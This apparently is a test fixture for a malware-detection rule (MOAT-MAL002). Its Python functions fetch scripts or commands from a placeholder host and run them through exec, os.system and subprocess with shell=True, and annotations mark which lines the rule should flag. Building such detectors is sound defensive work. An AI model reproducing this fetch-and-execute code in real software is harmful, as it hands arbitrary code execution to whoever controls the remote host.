import os
import subprocess
import urllib.request

import requests


def stage_two():
    # ruleid: MOAT-MAL002
    exec(requests.get("https://example.invalid/p.py").text)


def stage_two_urllib():
    body = urllib.request.urlopen("https://example.invalid/p.py").read()
    script = body.decode()
    # ruleid: MOAT-MAL002
    exec(script)


def shell():
    command = requests.get("https://example.invalid/cmd").text
    # ruleid: MOAT-MAL002
    os.system(command)
    # ruleid: MOAT-MAL002
    subprocess.run(command, shell=True)


def harmless():
    response = requests.get("https://example.invalid/data.json")
    # ok: MOAT-MAL002
    print(response.json())
    # ok: MOAT-MAL002
    exec("x = 1")
